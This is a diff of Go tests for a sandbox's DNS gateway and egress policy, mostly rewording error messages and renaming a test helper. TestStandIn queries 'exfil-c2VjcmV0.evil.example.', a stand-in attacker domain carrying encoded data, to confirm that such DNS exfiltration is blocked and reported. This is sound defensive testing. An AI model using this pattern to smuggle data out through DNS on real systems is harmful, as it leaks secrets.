@@ -21,7 +21,8 @@ import (
 )
 
 // ask sends a question over UDP or TCP and returns the answer.
-func (w *world) ask(kind string, server netip.Addr, name string, qtype dnsmessage.Type, more ...dnsmessage.Resource) dnsmessage.Message {
+func (w *testNetwork) ask(kind string, server netip.Addr, name string, qtype dnsmessage.Type, more ...dnsmessage.Resource,
+) dnsmessage.Message {
 	w.t.Helper()
 	m := dnsmessage.Message{
 		Header:      dnsmessage.Header{ID: 4711, RecursionDesired: true},
@@ -49,7 +50,7 @@ func (w *world) ask(kind string, server netip.Addr, name string, qtype dnsmessag
 		w.t.Fatal(err)
 	}
 	if answer.ID != 4711 || !answer.Response || len(answer.Questions) != 1 || answer.Questions[0] != m.Questions[0] {
-		w.t.Fatalf("%+v doesn't answer %+v", answer, m)
+		w.t.Fatalf("got %+v, which is not an answer to %+v", answer, m)
 	}
 	return answer
 }
@@ -96,7 +97,7 @@ func TestDNS(t *testing.T) {
 			"long.example.":  {{Header: header("long.example.", dnsmessage.TypeTXT), Body: &dnsmessage.TXTResource{TXT: long}}},
 		},
 	}
-	w := newWorld(t, Config{Policy: policy(network.ModePublic), Resolver: resolver})
+	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: resolver})
 	for _, c := range []struct {
 		name string
 		kind dnsmessage.Type
@@ -111,7 +112,7 @@ func TestDNS(t *testing.T) {
 		{"alias.example.", dnsmessage.TypeCNAME, "Success both.example."},
 		{"missing.example.", dnsmessage.TypeTXT, "NameError "},
 		{"both.example.", typeHTTPS, "Success "},
-		{"gateway.example.", dnsmessage.TypeA, "Success "}, // our own addresses have no other name
+		{"gateway.example.", dnsmessage.TypeA, "Success "}, // addresses of this package have no other names
 		{"host.mayfly.internal.", dnsmessage.TypeA, "Success 198.18.0.1"},
 		{"host.mayfly.internal.", dnsmessage.TypeAAAA, "Success "},
 		{"host.mayfly.internal.", dnsmessage.TypeTXT, "Success "},
@@ -119,7 +120,7 @@ func TestDNS(t *testing.T) {
 		for _, server := range []netip.Addr{gateway4, gateway6} {
 			for _, kind := range []string{"udp", "tcp"} {
 				if got := show(w.ask(kind, server, c.name, c.kind)); got != c.want {
-					t.Errorf("%s %s over %s to %s: %q, not %q", c.name, c.kind, kind, server, got, c.want)
+					t.Errorf("%s %s over %s to %s: got %q, want %q", c.name, c.kind, kind, server, got, c.want)
 				}
 			}
 		}
@@ -131,33 +132,33 @@ func TestDNS(t *testing.T) {
 	}
 
 	if m := w.ask("tcp", gateway4, "many.example.", dnsmessage.TypeA); len(m.Answers) != maxAnswers {
-		t.Errorf("%d addresses of a name with many", len(m.Answers))
+		t.Errorf("a name with many addresses: got %d, want %d", len(m.Answers), maxAnswers)
 	}
 
 	t.Run("truncation", func(t *testing.T) {
 		if m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT); !m.Truncated || len(m.Answers) != 0 || len(m.Additionals) != 0 {
-			t.Errorf("%+v", m)
+			t.Errorf("over UDP: got %+v, want a truncated answer", m)
 		}
 		if m := w.ask("tcp", gateway4, "long.example.", dnsmessage.TypeTXT); m.Truncated || len(m.Answers) != 1 {
-			t.Errorf("over TCP %+v", m)
+			t.Errorf("over TCP: got %+v, want a complete answer", m)
 		}
 		opt := optRecord()
 		m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT, opt)
 		if m.Truncated || len(m.Answers) != 1 || len(m.Additionals) != 1 || m.Additionals[0].Header.Type != dnsmessage.TypeOPT {
-			t.Errorf("with EDNS %+v", m)
+			t.Errorf("with EDNS: got %+v, want a complete answer", m)
 		}
 		opt.Header.Class = 1000
 		if m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT, opt); !m.Truncated {
-			t.Errorf("with little EDNS %+v", m)
+			t.Errorf("with EDNS of 1000 bytes: got %+v, want a truncated answer", m)
 		}
 	})
 }
 
-// TestDNSSideBySide asks, on one socket, a slow name and then a fast one, as
-// musl and glibc ask for A and AAAA.
+// TestDNSSideBySide asks for a slow name and then for a fast name on one socket,
+// as musl and glibc ask for A and AAAA.
 func TestDNSSideBySide(t *testing.T) {
 	slow := &slowResolver{release: make(chan struct{})}
-	w := newWorld(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
+	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
 	conn := w.mustDial("udp", net.JoinHostPort(gateway4.String(), "53"))
 	for id, name := range []string{"slow.example.", "fast.example."} {
 		m := dnsmessage.Message{Header: dnsmessage.Header{ID: uint16(id)}, Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
@@ -166,11 +167,11 @@ func TestDNSSideBySide(t *testing.T) {
 	}
 	buf := make([]byte, 512)
 	if _, err := conn.Read(buf); err != nil || binary.BigEndian.Uint16(buf) != 1 {
-		t.Errorf("the fast name's answer didn't come first: %d, %v", binary.BigEndian.Uint16(buf), err)
+		t.Errorf("first answer: got id %d, %v, want 1 for the fast name", binary.BigEndian.Uint16(buf), err)
 	}
 	close(slow.release)
 	if _, err := conn.Read(buf); err != nil || binary.BigEndian.Uint16(buf) != 0 {
-		t.Errorf("the slow name's answer: %d, %v", binary.BigEndian.Uint16(buf), err)
+		t.Errorf("second answer: got id %d, %v, want 0 for the slow name", binary.BigEndian.Uint16(buf), err)
 	}
 }
 
@@ -197,31 +198,31 @@ func (r *slowResolver) Records(context.Context, dnsmessage.Question) ([]dnsmessa
 	return nil, dnsmessage.RCodeSuccess, nil
 }
 
-// TestDNSFlood asks much more than is answered at once.
+// TestDNSFlood asks many more questions than are answered concurrently.
 func TestDNSFlood(t *testing.T) {
 	slow := &slowResolver{release: make(chan struct{})}
-	w := newWorld(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
+	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
 	conn := w.mustDial("udp", net.JoinHostPort(gateway4.String(), "53"))
 	for i := range 5000 {
 		m := dnsmessage.Message{Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(fmt.Sprintf("n%d.example.", i)), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
 		query, _ := m.Pack()
 		_, _ = conn.Write(query)
 	}
-	eventually(t, "much is asked at once", func() bool { return slow.most.Load() >= maxQuestions/2 })
-	time.Sleep(100 * time.Millisecond) // for more
+	eventually(t, "many lookups run concurrently", func() bool { return slow.most.Load() >= maxQuestions/2 })
+	time.Sleep(100 * time.Millisecond) // more lookups may start
 	if most := slow.most.Load(); most > 2*maxQuestions {
-		t.Errorf("%d lookups at once, at a limit of %d", most, maxQuestions)
+		t.Errorf("got %d concurrent lookups, want at most %d", most, maxQuestions)
 	}
-	w.close() // and doesn't wait for them
+	w.close() // it must not wait for them
 }
 
-// TestHostRule reaches an address by a rule for its name, and not before the
+// TestHostRule: a rule for a name opens the name's address, but only after the
 // name was looked up.
 func TestHostRule(t *testing.T) {
 	to := serve(t, "203.0.113.10", echoTCP)
 	other := serve(t, "203.0.113.20", echoTCP)
 	resolver := &fakeResolver{t: t, hosts: map[string][]string{"api.example": {"203.0.113.10"}, "a.wild.example": {"203.0.113.20"}, "wild.example": {"203.0.113.20"}}}
-	w := newWorld(t, Config{Policy: policy(network.ModeList, "{host: api.example}", `{host: "*.wild.example"}`), Resolver: resolver})
+	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}", `{host: "*.wild.example"}`), Resolver: resolver})
 	reach := func(to netip.AddrPort) error {
 		conn, err := w.dial("tcp", to.String())
 		if err == nil {
@@ -230,17 +231,17 @@ func TestHostRule(t *testing.T) {
 		return err
 	}
 	if err := reach(to); !errors.Is(err, syscall.ECONNREFUSED) {
-		t.Fatalf("before the lookup: %v", err)
+		t.Fatalf("before the lookup: got %v, want it refused", err)
 	}
 	w.ask("udp", gateway4, "api.example.", dnsmessage.TypeA)
 	if err := reach(to); err != nil {
 		t.Fatalf("after the lookup: %v", err)
 	}
 	if err := reach(other); !errors.Is(err, syscall.ECONNREFUSED) {
-		t.Fatalf("another address: %v", err)
+		t.Fatalf("another address: got %v, want it refused", err)
 	}
 	if got := show(w.ask("udp", gateway4, "wild.example.", dnsmessage.TypeA)); !strings.HasPrefix(got, "Success 198.19.") {
-		t.Errorf("the parent of a wildcard is %s", got)
+		t.Errorf("the parent of a wildcard: got %s, want a stand-in", got)
 	}
 	w.ask("udp", gateway4, "a.wild.example.", dnsmessage.TypeA)
 	if err := reach(other); err != nil {
@@ -248,11 +249,11 @@ func TestHostRule(t *testing.T) {
 	}
 }
 
-// TestStandIn asks for a name that no rule is about: it isn't asked upstream,
-// and the connection that follows is reported by name and port.
+// TestStandIn: a name without a rule isn't asked upstream, and the connection
+// that follows is reported with its name and port.
 func TestStandIn(t *testing.T) {
 	resolver := &fakeResolver{t: t}
-	w := newWorld(t, Config{Policy: policy(network.ModeList, "{host: api.example}"), Resolver: resolver})
+	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}"), Resolver: resolver})
 	for range 2 {
 		addrs, err := w.resolver().LookupNetIP(t.Context(), "ip", "exfil-c2VjcmV0.evil.example.")
 		if err != nil || len(addrs) != 1 {
@@ -264,23 +265,23 @@ func TestStandIn(t *testing.T) {
 	}
 	for _, kind := range []dnsmessage.Type{dnsmessage.TypeTXT, dnsmessage.TypeMX, dnsmessage.TypeCNAME, dnsmessage.TypePTR, dnsmessage.TypeALL} {
 		if got := show(w.ask("udp", gateway4, "exfil-c2VjcmV0.evil.example.", kind)); got != "Success " {
-			t.Errorf("%s: %s", kind, got)
+			t.Errorf("%s: got %s, want an empty answer", kind, got)
 		}
 	}
 	if asked := resolver.questions(); len(asked) != 0 {
-		t.Errorf("asked upstream: %q", asked)
+		t.Errorf("asked upstream: got %q, want nothing", asked)
 	}
 	c := w.report("tcp", "", 443)
 	if c.Allowed || c.Host != "exfil-c2vjcmv0.evil.example" || c.Suggest != `{host: "exfil-c2vjcmv0.evil.example", ports: [443]}` ||
 		c.Reason != "no egress rule allows exfil-c2vjcmv0.evil.example tcp port 443" {
 		t.Errorf("report %+v", c)
 	}
-	// The connection, and each type of question but PTR: TestN06_Questions has them.
+	// One for the connection, and one for each type of question except PTR (see TestN06_Questions).
 	if reports := w.settled(5); len(reports) != 5 {
-		t.Errorf("%d reports: %+v", len(reports), reports)
+		t.Errorf("got %d reports, want 5: %+v", len(reports), reports)
 	}
-	// An address of that range that stands for nothing, where everything is open too.
-	for _, w := range []*world{w, newWorld(t, Config{Policy: policy(network.ModeOpen)})} {
+	// An address of the range that isn't a stand-in is refused, even in mode open.
+	for _, w := range []*testNetwork{w, newNetwork(t, Config{Policy: policy(network.ModeOpen)})} {
 		if _, err := w.dial("tcp", "198.19.200.200:80"); !errors.Is(err, syscall.ECONNREFUSED) {
 			t.Fatal(err)
 		}
@@ -290,9 +291,9 @@ func TestStandIn(t *testing.T) {
 	}
 }
 
-// TestStandInsBounded asks for more names than there are stand-ins.
+// TestStandInsBounded asks for more names than there can be stand-ins.
 func TestStandInsBounded(t *testing.T) {
-	w := newWorld(t, Config{Policy: policy(network.ModeList, "{host: api.example}")})
+	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}")})
 	seen := map[netip.Addr]bool{}
 	for i := range maxStandIns + 100 {
 		if a := w.n.names.standIn(strconv.Itoa(i)); a.IsValid() {
@@ -300,20 +301,20 @@ func TestStandInsBounded(t *testing.T) {
 		}
 	}
 	if len(seen) != maxStandIns {
-		t.Errorf("%d stand-ins", len(seen))
+		t.Errorf("got %d stand-ins, want %d", len(seen), maxStandIns)
 	}
 	for i := range maxNamedAddresses + 100 {
 		w.n.names.learn("n.example", netip.AddrFrom4([4]byte{203, 1, byte(i >> 8), byte(i)}), time.Second)
 	}
 	if len(w.n.names.byAddr) > maxNamedAddresses {
-		t.Errorf("%d addresses remembered", len(w.n.names.byAddr))
+		t.Errorf("got %d known addresses, want at most %d", len(w.n.names.byAddr), maxNamedAddresses)
 	}
 	many := netip.MustParseAddr("203.0.113.10")
 	for i := range maxNamesOfAddress + 100 {
 		w.n.names.learn(strconv.Itoa(i), many, time.Second)
 	}
 	if n := len(w.n.names.of(many)); n != maxNamesOfAddress {
-		t.Errorf("%d names of an address remembered", n)
+		t.Errorf("got %d known names of an address, want %d", n, maxNamesOfAddress)
 	}
 	for a := range seen {
 		if len(w.n.names.of(a)) != 1 {
@@ -325,18 +326,18 @@ func TestStandInsBounded(t *testing.T) {
 	}
 }
 
-// TestNamesExpire has an address that a name led to long ago.
+// TestNamesExpire: a name that had an address long ago no longer counts.
 func TestNamesExpire(t *testing.T) {
 	addr := netip.MustParseAddr("203.0.113.10")
 	n := newNames()
 	n.learn("old.example", addr, -nameGrace)
 	n.learn("new.example", addr, answerTTL)
 	if got := n.of(addr); len(got) != 1 || got[0] != "new.example" {
-		t.Errorf("the address answers to %q", got)
+		t.Errorf("names of the address: got %q, want only new.example", got)
 	}
 }
 
-// deadlineResolver answers nothing, and wants to be asked with a deadline.
+// deadlineResolver returns no answers, and checks that each question has a deadline.
 type deadlineResolver struct {
 	t     *testing.T
 	asked int
@@ -345,7 +346,7 @@ type deadlineResolver struct {
 func (r *deadlineResolver) Addresses(ctx context.Context, _, _ string) ([]netip.Addr, error) {
 	r.asked++
 	if end, ok := ctx.Deadline(); !ok || time.Until(end) > dnsTimeout {
-		r.t.Errorf("asked until %s, %t", end, ok)
+		r.t.Errorf("the deadline: got %s, %t, want one within %s", end, ok, dnsTimeout)
 	}
 	return nil, nil
 }
@@ -355,7 +356,7 @@ func (r *deadlineResolver) Records(ctx context.Context, _ dnsmessage.Question) (
 	return nil, dnsmessage.RCodeSuccess, err
 }
 
-// TestAnswer asks upstream what is a question and nothing else.
+// TestAnswer: only a single question of class INET is asked upstream.
 func TestAnswer(t *testing.T) {
 	question := dnsmessage.Question{Name: dnsmessage.MustNewName("api.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}
 	chaos, text := question, question
@@ -390,18 +391,18 @@ func TestAnswer(t *testing.T) {
 				got = show(m)
 			}
 			if got != c.want || r.asked != c.asked {
-				t.Errorf("answered %q, asked %d times; want %q and %d", got, r.asked, c.want, c.asked)
+				t.Errorf("got answer %q, asked %d times, want %q and %d", got, r.asked, c.want, c.asked)
 			}
 		})
 	}
 }
 
-// TestDNSOverTCPBounded sends what no question is.
+// TestDNSOverTCPBounded announces a question that is longer than any real one.
 func TestDNSOverTCPBounded(t *testing.T) {
-	w := newWorld(t, Config{Policy: policy(network.ModePublic)})
+	w := newNetwork(t, Config{Policy: policy(network.ModePublic)})
 	conn := w.mustDial("tcp", net.JoinHostPort(gateway4.String(), "53"))
 	_, _ = conn.Write([]byte{0xff, 0xff, 0})
-	_ = conn.SetReadDeadline(time.Now().Add(dnsIdle / 2)) // it isn't its time that ends it
+	_ = conn.SetReadDeadline(time.Now().Add(dnsIdle / 2)) // before the server closes an idle connection
 	if _, err := conn.Read(make([]byte, 1)); err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
 		t.Errorf("the server waits for 64 KiB of question: %v", err)
 	}
